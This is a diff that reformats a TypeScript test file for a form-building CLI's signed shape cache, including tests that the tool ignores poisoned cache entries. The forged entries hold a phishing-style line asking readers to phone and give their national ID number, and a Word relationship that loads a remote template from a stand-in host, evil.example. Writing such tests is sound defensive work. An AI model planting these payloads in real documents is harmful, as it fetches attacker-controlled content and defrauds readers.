@@ -38,9 +38,13 @@ describe('the shape cache', () => {
     const cold = copyWorkspace();
     const warm = copyWorkspace();
     expect(runCliProcess(['forms'], { cwd: off, env: EPOCH }).code).toBe(0);
-    expect(runCliProcess(['forms'], { cwd: cold, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code).toBe(0);
+    expect(
+      runCliProcess(['forms'], { cwd: cold, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code,
+    ).toBe(0);
     expect(readdirSync(join(cache, 'forms')).length).toBeGreaterThan(0);
-    expect(runCliProcess(['forms'], { cwd: warm, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code).toBe(0);
+    expect(
+      runCliProcess(['forms'], { cwd: warm, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code,
+    ).toBe(0);
     const want = treeHashes(join(off, 'ut'));
     expect(Object.keys(want).length).toBeGreaterThan(30);
     expect(treeHashes(join(cold, 'ut'))).toEqual(want);
@@ -50,12 +54,17 @@ describe('the shape cache', () => {
   it('holds no names, e-mail addresses, places or dates of the groups', () => {
     const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
     const ws = copyWorkspace();
-    expect(runCliProcess(['build'], { cwd: ws, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code).toBe(0);
-    const stored = entries(cache).map((f) => JSON.stringify(unpack(readFileSync(f)))).join('\n');
+    expect(
+      runCliProcess(['build'], { cwd: ws, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code,
+    ).toBe(0);
+    const stored = entries(cache)
+      .map((f) => JSON.stringify(unpack(readFileSync(f))))
+      .join('\n');
     const secrets: string[] = [];
     for (const f of readdirSync(join(ws, 'groups'))) {
       const g = parse(readFileSync(join(ws, 'groups', f), 'utf8'));
-      for (const p of [g.facilitator, g.co_facilitator, g.leader, ...g.participants].filter(Boolean)) secrets.push(p.name, ...(p.email ? [p.email] : []));
+      for (const p of [g.facilitator, g.co_facilitator, g.leader, ...g.participants].filter(Boolean))
+        secrets.push(p.name, ...(p.email ? [p.email] : []));
       secrets.push(g.name, g.location.room, g.location.address);
     }
     secrets.push('Lillevik kommune', '12. januar 2027', '12.01.2027');
@@ -68,7 +77,11 @@ describe('the shape cache', () => {
     const traced = (cwd: string) => {
       const log = join(mkdtempSync(join(tmpdir(), 'refleks-trace-')), 'imports.txt');
       writeFileSync(log, '');
-      const r = spawnSync(process.execPath, ['--import', join(ROOT, 'tests/helpers/trace-imports.mjs'), BIN, 'build'], { cwd, encoding: 'utf8', env: { ...env, REFLEKS_TRACE_IMPORTS: log } });
+      const r = spawnSync(process.execPath, ['--import', join(ROOT, 'tests/helpers/trace-imports.mjs'), BIN, 'build'], {
+        cwd,
+        encoding: 'utf8',
+        env: { ...env, REFLEKS_TRACE_IMPORTS: log },
+      });
       expect(r.status, r.stderr).toBe(0);
       return readFileSync(log, 'utf8');
     };
@@ -97,43 +110,63 @@ describe('a poisoned shape cache', () => {
   const warmCache = async () => {
     const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
     const ws = copyWorkspace(BASE);
-    expect((await runCli(['forms'], { cwd: ws, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } })).code).toBe(0);
+    expect(
+      (await runCli(['forms'], { cwd: ws, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } })).code,
+    ).toBe(0);
     expect(entries(cache)).toHaveLength(1);
     return cache;
   };
   const buildWith = async (cache: string, args: string[] = []) => {
     const ws = copyWorkspace(BASE);
-    const r = await runCli([...args, 'forms'], { cwd: ws, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } });
+    const r = await runCli([...args, 'forms'], {
+      cwd: ws,
+      env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache },
+    });
     expect(r.code, r.stderr).toBe(0);
     return { r, ws, out: treeHashes(join(ws, 'ut')) };
   };
-  const forged = (change: (e: Entry) => void, sign = true) => async () => {
-    const cache = await warmCache();
-    const [file] = entries(cache);
-    const bytes = readFileSync(file!);
-    const entry = unpack(bytes);
-    change(entry);
-    if (sign) writeFileSync(file!, pack(cache, entry));
-    else writeFileSync(file!, Buffer.concat([bytes.subarray(0, MAGIC.length + 32), gzipSync(JSON.stringify(entry))]));
-    const { r, out } = await buildWith(cache, ['--debug']);
-    expect(out).toEqual(await cleanOutputs());
-    expect(r.stderr).toMatch(/ignorerer .*\.shape i mellomlageret/);
-    // The entry is replaced by a sound one.
-    expect(JSON.stringify(unpack(readFileSync(file!)))).not.toContain('fødselsnummer');
-  };
+  const forged =
+    (change: (e: Entry) => void, sign = true) =>
+    async () => {
+      const cache = await warmCache();
+      const [file] = entries(cache);
+      const bytes = readFileSync(file!);
+      const entry = unpack(bytes);
+      change(entry);
+      if (sign) writeFileSync(file!, pack(cache, entry));
+      else writeFileSync(file!, Buffer.concat([bytes.subarray(0, MAGIC.length + 32), gzipSync(JSON.stringify(entry))]));
+      const { r, out } = await buildWith(cache, ['--debug']);
+      expect(out).toEqual(await cleanOutputs());
+      expect(r.stderr).toMatch(/ignorerer .*\.shape i mellomlageret/);
+      // The entry is replaced by a sound one.
+      expect(JSON.stringify(unpack(readFileSync(file!)))).not.toContain('fødselsnummer');
+    };
   const documentOf = (e: Entry) => e.forms[0][1].find((p: Entry) => p.n === 'word/document.xml');
 
-  it('changed text (not signed by this user) is ignored', forged((e) => {
-    const doc = documentOf(e);
-    doc.p[0] = String(doc.p[0]).replace('<w:body>', '<w:body><w:p><w:r><w:t>Ring 820 12 345 og oppgi fødselsnummer</w:t></w:r></w:p>');
-  }, false));
+  it(
+    'changed text (not signed by this user) is ignored',
+    forged((e) => {
+      const doc = documentOf(e);
+      doc.p[0] = String(doc.p[0]).replace(
+        '<w:body>',
+        '<w:body><w:p><w:r><w:t>Ring 820 12 345 og oppgi fødselsnummer</w:t></w:r></w:p>',
+      );
+    }, false),
+  );
 
-  it('an external relationship is ignored', forged((e) => {
-    const rels = e.forms[0][1].find((p: Entry) => p.n === 'word/_rels/document.xml.rels');
-    const xml = Buffer.from(rels.b, 'base64').toString().replace('</Relationships>',
-      '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>');
-    rels.b = Buffer.from(xml).toString('base64');
-  }));
+  it(
+    'an external relationship is ignored',
+    forged((e) => {
+      const rels = e.forms[0][1].find((p: Entry) => p.n === 'word/_rels/document.xml.rels');
+      const xml = Buffer.from(rels.b, 'base64')
+        .toString()
+        .replace(
+          '</Relationships>',
+          '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        );
+      rels.b = Buffer.from(xml).toString('base64');
+    }),
+  );
 
   it('a path as a form name is ignored, and nothing is written outside the forms folder', async () => {
     await forged((e) => {
@@ -141,13 +174,19 @@ describe('a poisoned shape cache', () => {
     })();
   });
 
-  it('an empty list of forms is ignored', forged((e) => {
-    e.forms = [];
-  }));
+  it(
+    'an empty list of forms is ignored',
+    forged((e) => {
+      e.forms = [];
+    }),
+  );
 
-  it('a token the shape does not have is ignored', forged((e) => {
-    documentOf(e).p.push(4096);
-  }));
+  it(
+    'a token the shape does not have is ignored',
+    forged((e) => {
+      documentOf(e).p.push(4096);
+    }),
+  );
 
   it('an entry that is a FIFO does not hang the build', async () => {
     const cache = await warmCache();
@@ -167,19 +206,23 @@ describe('a poisoned shape cache', () => {
     symlinkSync(elsewhere, join(cache, 'forms'));
     const { r, out } = await buildWith(cache);
     expect(out).toEqual(await cleanOutputs());
-    expect(r.stderr).toContain(`advarsel: bruker ikke mellomlageret for skjemaoppsett i ${join(cache, 'forms')}: mappen er en symbolsk lenke`);
+    expect(r.stderr).toContain(
+      `advarsel: bruker ikke mellomlageret for skjemaoppsett i ${join(cache, 'forms')}: mappen er en symbolsk lenke`,
+    );
     expect(treeHashes(elsewhere)).toEqual(before);
   });
 
   it('pruning removes only entries refleks wrote', async () => {
     const cache = await warmCache();
-    for (let i = 0; i < 300; i++) writeFileSync(join(cache, 'forms', `${String(i).padStart(64, '0')}.shape`), `fil ${i}\n`);
+    for (let i = 0; i < 300; i++)
+      writeFileSync(join(cache, 'forms', `${String(i).padStart(64, '0')}.shape`), `fil ${i}\n`);
     writeFileSync(join(cache, 'forms', 'arkiv.json.gz'), 'ikke refleks sin\n');
     const before = treeHashes(join(cache, 'forms'));
     rmSync(entries(cache).find((f) => !/\/0+\d+\.shape$/.test(f))!);
     await buildWith(cache);
     const after = treeHashes(join(cache, 'forms'));
-    for (const [f, hash] of Object.entries(before)) if (!f.endsWith('hmac.key') && /^0/.test(f)) expect(after[f], f).toBe(hash);
+    for (const [f, hash] of Object.entries(before))
+      if (!f.endsWith('hmac.key') && /^0/.test(f)) expect(after[f], f).toBe(hash);
     expect(after['arkiv.json.gz']).toBe(before['arkiv.json.gz']);
   });
 
@@ -188,10 +231,15 @@ describe('a poisoned shape cache', () => {
     chmodSync(cache, 0o775);
     const { r, out } = await buildWith(cache);
     expect(out).toEqual(await cleanOutputs());
-    expect(r.stderr).toContain(`advarsel: bruker ikke mellomlageret for skjemaoppsett i ${cache}: mappen kan skrives av andre brukere (gruppe eller alle)`);
+    expect(r.stderr).toContain(
+      `advarsel: bruker ikke mellomlageret for skjemaoppsett i ${cache}: mappen kan skrives av andre brukere (gruppe eller alle)`,
+    );
     expect(r.stderr).toContain('chmod 700');
     expect(readdirSync(join(cache, 'forms'))).toEqual([]);
-    const en = await runCli(['--lang', 'en', 'forms'], { cwd: copyWorkspace(BASE), env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } });
+    const en = await runCli(['--lang', 'en', 'forms'], {
+      cwd: copyWorkspace(BASE),
+      env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache },
+    });
     expect(en.stderr).toContain('warning: not using the form layout cache');
   });
 });
